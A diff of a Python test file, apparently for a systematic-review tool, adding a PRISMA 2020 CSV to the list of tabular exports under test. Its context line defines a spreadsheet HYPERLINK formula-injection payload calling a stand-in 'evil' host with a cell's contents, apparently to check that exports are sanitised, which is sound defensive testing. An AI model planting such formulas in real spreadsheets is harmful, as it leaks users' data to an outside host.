@@ -26,7 +26,8 @@ EVIL = '=HYPERLINK("http://evil/?x="&A1,"click")'
 NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
 # (url name, kwargs) of every tabular download; robvis files are added per tool.
 EXPORTS = [
-    ("record_export_csv", {}), ("prisma_csv", {}), ("prisma_checklist_csv", {}), ("search_appendix_csv", {}),
+    ("record_export_csv", {}), ("prisma_csv", {}), ("prisma2020_csv", {}), ("prisma_checklist_csv", {}),
+    ("search_appendix_csv", {}),
     ("audit_export", {}), ("appraisal_export", {}),
     *[("extraction_export", {"shape": shape, "fmt": fmt}) for shape in ("wide", "long") for fmt in ("csv", "xlsx")],
     ("sof_download", {"fmt": "csv"}), ("sof_download", {"fmt": "xlsx"}), ("revman_download", {}),
